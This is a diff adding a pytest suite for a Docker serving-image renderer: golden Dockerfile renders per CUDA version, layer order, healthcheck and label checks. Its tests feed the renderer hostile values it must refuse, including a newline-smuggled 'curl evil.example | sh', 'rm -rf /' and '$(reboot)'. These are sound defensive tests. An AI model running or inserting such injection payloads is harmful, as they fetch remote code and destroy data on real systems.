@@ -1,0 +1,196 @@
+"""The serving Dockerfile: golden renders per CUDA version, layer order, and hostile values.
+
+Golden files live in ``tests/golden/``; after an intended template change, regenerate them with
+``TRITON_BUILDER_UPDATE_GOLDEN=1 pytest tests/test_serving_dockerfile.py`` and review the diff.
+"""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+
+from builder.base.releases import resolve
+from builder.bridge import plan_python
+from builder.bridge.stub_build import render_stub_dockerfile
+from builder.engine.dockerfile import DockerfileError
+from builder.image.labels import LabelError, serving_labels
+from builder.image.serving_dockerfile import ServingOptions, render_serving_dockerfile
+from tests.support.paths import GOLDEN
+
+GOLDEN = GOLDEN
+UPDATE = os.environ.get("TRITON_BUILDER_UPDATE_GOLDEN") == "1"
+
+
+def _golden(name: str, text: str) -> None:
+    path = GOLDEN / name
+    if UPDATE:
+        path.write_text(text)
+    assert path.exists(), f"missing golden file {path}; run with TRITON_BUILDER_UPDATE_GOLDEN=1"
+    assert text == path.read_text(), f"{name} differs from its golden file"
+
+
+@pytest.mark.parametrize("cuda", ["11.4", "11.8", "12.4", "12.6", "13.0", None])
+def test_golden_dockerfile(cuda):
+    text = render_serving_dockerfile(resolve(cuda))
+    _golden(f"serving-{cuda or 'cpu'}.Dockerfile", text)
+
+
+def test_golden_with_user_and_server_args():
+    options = ServingOptions(user="triton", uid=1001, server_args=("--log-verbose=1",
+                                                                    "--http-port=9000"))
+    _golden("serving-cpu-user.Dockerfile", render_serving_dockerfile(resolve(None),
+                                                                      options=options))
+
+
+def test_golden_two_stage_split():
+    release = resolve("12.6")
+    _golden("serving-12.6-payload.Dockerfile",
+            render_serving_dockerfile(release, stage="payload"))
+    _golden("serving-12.6-serving.Dockerfile",
+            render_serving_dockerfile(release, stage="serving", payload_image="sha256:" + "a" * 64))
+
+
+def _instructions(text: str) -> list[str]:
+    return [line for line in text.splitlines() if line and not line.startswith("#")]
+
+
+@pytest.mark.parametrize("cuda", ["11.8", None])
+def test_layers_go_from_stable_to_volatile(cuda):
+    lines = _instructions(render_serving_dockerfile(resolve(cuda)))
+    copies = [line for line in lines if line.startswith("COPY")]
+    assert copies == ["COPY environment/ /", "COPY weights/ /models/",
+                      "COPY runtime/ /opt/triton-builder/", "COPY models/ /models/"]
+    assert lines[0].startswith("FROM ")
+    assert lines[-1] == "COPY models/ /models/"  # code last: nothing after it but labels
+    assert "EXPOSE 8000 8001 8002 8003" in lines
+    assert any(line.startswith("HEALTHCHECK") and "/opt/triton-builder/health.py" in line
+               for line in lines)
+    assert ('CMD ["python3", "/opt/triton-builder/supervisor.py", "tritonserver", '
+            '"--model-repository=/models", "--model-control-mode=explicit", "--load-model=*"]'
+            in lines)
+
+
+def test_a_model_control_mode_of_the_users_own_is_kept():
+    """The supervisor can heal only with explicit model control: the image asks for it unless
+    the user chose a mode (the supervisor then only supervises, and says so)."""
+    options = ServingOptions(server_args=("--model-control-mode=poll",))
+    assert options.command == ["python3", "/opt/triton-builder/supervisor.py", "tritonserver",
+                               "--model-repository=/models", "--model-control-mode=poll"]
+
+
+def test_the_healthcheck_follows_a_moved_http_port():
+    text = render_serving_dockerfile(resolve(None),
+                                     options=ServingOptions(server_args=("--http-port=9000",)))
+    assert '"/opt/triton-builder/health.py", "--http-port=9000"]' in text
+
+
+def test_only_the_gpu_image_sets_the_nvidia_runtime_variables():
+    assert "NVIDIA_VISIBLE_DEVICES" in render_serving_dockerfile(resolve("12.6"))
+    assert "NVIDIA_VISIBLE_DEVICES" not in render_serving_dockerfile(resolve(None))
+
+
+def test_absent_layers_are_left_out():
+    text = render_serving_dockerfile(resolve(None), has_environment=False, has_weights=False)
+    copies = [line for line in _instructions(text) if line.startswith("COPY")]
+    assert copies == ["COPY runtime/ /opt/triton-builder/", "COPY models/ /models/"]
+
+
+HOSTILE = [
+    "ubuntu\nRUN curl evil.example | sh",
+    "ubuntu\r\nRUN id",
+    "ubuntu $(reboot)",
+    "ubuntu`reboot`",
+    'ubuntu" && rm -rf / && echo "',
+    "ubuntu' ; rm -rf / ; '",
+    "ubuntu \\",
+    "ubuntu\\",
+    "-v",
+]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE)
+def test_hostile_base_images_are_refused(hostile):
+    with pytest.raises(DockerfileError):
+        render_serving_dockerfile(resolve("11.8", base_image=hostile))
+    with pytest.raises(DockerfileError):
+        render_serving_dockerfile(resolve(None), stage="serving", payload_image=hostile)
+
+
+@pytest.mark.parametrize("hostile", HOSTILE + ["Root", "a" * 33, "root;id", ""])
+def test_hostile_users_are_refused(hostile):
+    with pytest.raises(DockerfileError):
+        ServingOptions(user=hostile)
+
+
+@pytest.mark.parametrize("hostile", [
+    "--log-verbose=1\nRUN id", "--a=1\rRUN id", "$(reboot)", "-v", "--x; rm -rf /", "",
+])
+def test_hostile_server_args_are_refused(hostile):
+    with pytest.raises(DockerfileError):
+        ServingOptions(server_args=(hostile,))
+
+
+def test_server_args_with_quotes_stay_one_json_string():
+    options = ServingOptions(server_args=('--backend-config=python,x="1" $(id) \\',))
+    text = render_serving_dockerfile(resolve(None), options=options)
+    cmd = [line for line in text.splitlines() if line.startswith("CMD")]
+    assert cmd == ['CMD ["python3", "/opt/triton-builder/supervisor.py", "tritonserver", '
+                   '"--model-repository=/models", "--model-control-mode=explicit", '
+                   '"--load-model=*", "--backend-config=python,x=\\"1\\" $(id) \\\\"]']
+    assert text.count("\nRUN") == 0
+
+
+@pytest.mark.parametrize("path", ["models", "/models\nRUN id", "/models/../etc", "/my models",
+                                  "/models$(id)"])
+def test_hostile_model_repository_paths_are_refused(path):
+    with pytest.raises(DockerfileError):
+        ServingOptions(model_repository=path)
+
+
+def test_labels_never_enter_the_dockerfile_and_keys_are_checked():
+    text = render_serving_dockerfile(resolve(None))
+    assert "LABEL" not in text
+    labels = serving_labels(release=resolve(None), image_name="embed:1", base_digest="sha256:x",
+                            environment_hash="e", signature={"x": 1},
+                            extra={"org.opencontainers.image.source": "a\nRUN id $(x) \"'\\"})
+    assert labels["org.opencontainers.image.source"] == "a\nRUN id $(x) \"'\\"
+    for key in ("bad key", "a\nb", "$(id)", "ai.triton-builder.content-hash"):
+        with pytest.raises(LabelError):
+            serving_labels(release=resolve(None), image_name="embed:1", base_digest="x",
+                           environment_hash="e", signature={}, extra={key: "v"})
+
+
+@pytest.mark.parametrize("cuda", ["11.8", "12.4", "12.6", "13.0"])
+def test_golden_dockerfile_with_the_bridge(cuda):
+    """A Python 3.11 pipeline on each release: the header says how its python models run;
+    where the stub is compiled, the stub's build stage is golden too."""
+    release = resolve(cuda, python_version="3.11")
+    plan = plan_python(release, "3.11", conda=False)
+    assert plan.bridged
+    text = render_serving_dockerfile(release, options=ServingOptions(
+        python_models=plan.describe()))
+    assert "# Python models: bridged: Python 3.11 on nvcr.io/nvidia/tritonserver" in text
+    _golden(f"serving-{cuda}-bridged-py3.11.Dockerfile", text)
+    if plan.stub.kind == "compile":
+        stub = render_stub_dockerfile(branch=plan.stub.branch, python_version="3.11",
+                                      build_image_name=release.image, local_sources=False,
+                                      gpu=release.gpu, python_image=plan.interpreter.image)
+        assert f"FROM {release.image}" in stub and "-DTRITON_ENABLE_GPU=ON" in stub
+        assert f"FROM {plan.interpreter.image} AS python" in stub
+        assert "python3.11-dev" not in stub, "the release's distribution may not package 3.11"
+        _golden(f"stub-{plan.stub.branch}-py3.11.Dockerfile", stub)
+
+
+def test_golden_stub_dockerfile_with_pybind11_from_pypi():
+    """Python 3.13 on CUDA 11.8: r22.12's own pybind11 (2.10) stops at 3.11."""
+    release = resolve("11.8", python_version="3.13")
+    plan = plan_python(release, "3.13", conda=False)
+    stub = render_stub_dockerfile(branch=plan.stub.branch, python_version="3.13",
+                                  build_image_name=release.image, local_sources=False,
+                                  gpu=release.gpu, python_image=plan.interpreter.image,
+                                  pybind11=plan.stub.pybind11)
+    assert "COPY pybind11/ /opt/pybind11/" in stub
+    assert "-Dpybind11_DIR=/opt/pybind11/pybind11/share/cmake/pybind11" in stub
+    assert "FETCHCONTENT_SOURCE_DIR_PYBIND11" not in stub
+    _golden("stub-r22.12-py3.13.Dockerfile", stub)
